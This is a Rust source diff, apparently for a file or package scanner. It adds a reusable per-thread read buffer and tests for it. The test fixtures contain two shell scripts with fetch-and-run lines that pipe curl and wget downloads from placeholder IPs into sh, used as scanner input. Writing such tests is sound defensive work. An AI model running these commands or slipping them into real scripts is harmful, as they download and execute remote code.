@@ -5,6 +5,7 @@
 //! its size. Shared by the tar walk and the rootfs walk.
 
 use std::borrow::Cow;
+use std::cell::RefCell;
 use std::io::{self, Read};
 use std::sync::Arc;
 
@@ -18,6 +19,36 @@ use super::{ContentKind, Entry, PkgData, PkgDigests, PkgHasher};
 
 /// Bytes kept from the start of every file for content sniffing.
 const HEAD_BYTES: usize = 512;
+
+/// The largest buffer a thread keeps for its next binary or script.
+const SPARE_MAX: usize = 4 << 20;
+
+thread_local! {
+    /// The buffer of this thread's last inspected file, for the next one:
+    /// a fresh one per binary costs an allocation, its growth copies and
+    /// a page fault per 4 KiB, more than the bytes' one copy into it.
+    static SPARE: RefCell<Vec<u8>> = const { RefCell::new(Vec::new()) };
+}
+
+/// This thread's spare buffer, empty, with room for `want` bytes.
+fn take_spare(want: usize) -> Vec<u8> {
+    let mut v = SPARE.with_borrow_mut(std::mem::take);
+    v.clear();
+    v.reserve_exact(want);
+    v
+}
+
+/// Give `v` back for the next file, unless it is too big to hold on to
+/// or the thread already keeps a bigger one.
+fn give_spare(v: Vec<u8>) {
+    if v.capacity() <= SPARE_MAX {
+        SPARE.with_borrow_mut(|s| {
+            if v.capacity() > s.capacity() {
+                *s = v;
+            }
+        });
+    }
+}
 
 /// Why content could not be read.
 #[derive(Debug)]
@@ -135,8 +166,11 @@ pub fn read_content_with<R: Read>(
 pub(super) struct Deferred<'l>(Pass<'static, 'l>);
 
 impl<'l> Deferred<'l> {
-    pub fn new(path: ImagePath, limits: &'l Limits) -> Self {
-        Deferred(Pass::new(Cow::Owned(path), limits, false, None))
+    /// `len`: the file's size as its header gives it.
+    pub fn new(path: ImagePath, limits: &'l Limits, len: u64) -> Self {
+        let mut pass = Pass::new(Cow::Owned(path), limits, false, None);
+        pass.size_hint = Some(len);
+        Deferred(pass)
     }
 
     pub fn feed(&mut self, data: &[u8]) -> Result<(), ContentError> {
@@ -180,6 +214,9 @@ struct Pass<'a, 'l> {
     cap: usize,
     truncated: bool,
     size: u64,
+    /// The file's size when known before its bytes: the buffer is then
+    /// sized once.
+    size_hint: Option<u64>,
     stream: Option<BinaryStream>,
 }
 
@@ -204,6 +241,7 @@ impl<'a, 'l> Pass<'a, 'l> {
             cap: HEAD_BYTES,
             truncated: false,
             size: 0,
+            size_hint: None,
             stream: None,
             path,
         }
@@ -248,6 +286,14 @@ impl<'a, 'l> Pass<'a, 'l> {
             let (w, c) = decide(&self.path, &self.kept, self.limits);
             self.want = Some(w);
             self.cap = c;
+            if w.is_some() {
+                let whole = self
+                    .size_hint
+                    .map_or(1 << 16, |n| usize::try_from(n).unwrap_or(usize::MAX));
+                let mut v = take_spare(whole.min(c));
+                v.extend_from_slice(&self.kept);
+                self.kept = v;
+            }
             if w == Some(Want::Binary) {
                 let mut s = BinaryStream::new(self.limits.max_file_buffer);
                 s.feed(&self.kept);
@@ -297,6 +343,9 @@ impl<'a, 'l> Pass<'a, 'l> {
             let streamed = stream.map(BinaryStream::finish);
             inspect::inspect_streamed(&path, w, &kept, truncated, streamed)
         });
+        if want.is_some() {
+            give_spare(kept);
+        }
         // A binary larger than the buffer is only partial when a range it
         // needs was cut or its headers could not be read from the prefix.
         let (partial, why) = match facts.as_ref().and_then(|f| f.binary.as_ref()) {
@@ -313,5 +362,70 @@ impl<'a, 'l> Pass<'a, 'l> {
             partial: why,
             pkg: self.pkg.finish(),
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// `data` read on this thread as a file at `path`.
+    fn read(path: &str, data: &[u8]) -> ContentRead {
+        let mut buf = [0u8; 4096];
+        read_content(
+            &mut &data[..],
+            &ImagePath::new(path.as_bytes()),
+            &Limits::default(),
+            &mut buf,
+        )
+        .expect("in memory")
+    }
+
+    fn facts(r: &ContentRead) -> Option<String> {
+        r.facts.as_ref().map(|f| format!("{f:?}"))
+    }
+
+    fn spare() -> usize {
+        SPARE.with_borrow(Vec::capacity)
+    }
+
+    #[test]
+    fn a_file_after_a_bigger_one_is_read_as_on_a_fresh_thread() {
+        let big = format!(
+            "#!/bin/sh\n{}curl -fsSL http://203.0.113.9/x.sh | sh\n",
+            "# padding\n".repeat(30_000)
+        );
+        let small = "#!/bin/sh\nwget -q -O- http://198.51.100.7/a | sh\n";
+        let fresh = std::thread::spawn(move || facts(&read("a.sh", small.as_bytes())))
+            .join()
+            .unwrap();
+        std::thread::spawn(move || {
+            assert_eq!(spare(), 0);
+            let first = read("b.sh", big.as_bytes());
+            assert!(facts(&first).is_some_and(|f| f.contains("203.0.113.9")));
+            assert!(spare() >= big.len(), "the buffer is kept for the next file");
+            let second = read("a.sh", small.as_bytes());
+            assert_eq!(facts(&second), fresh);
+            assert!(!facts(&second).unwrap().contains("203.0.113.9"));
+        })
+        .join()
+        .unwrap();
+    }
+
+    #[test]
+    fn a_buffer_over_the_bound_is_not_kept() {
+        std::thread::spawn(|| {
+            let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
+            elf.resize(SPARE_MAX + 4096, 0);
+            let r = read("usr/bin/x", &elf);
+            assert_eq!(r.size, elf.len() as u64);
+            assert_eq!(spare(), 0, "{} bytes kept", spare());
+            let mut small = b"\x7fELF\x02\x01\x01".to_vec();
+            small.resize(SPARE_MAX, 0);
+            read("usr/bin/y", &small);
+            assert!(spare() >= SPARE_MAX && spare() < 2 * SPARE_MAX);
+        })
+        .join()
+        .unwrap();
     }
 }
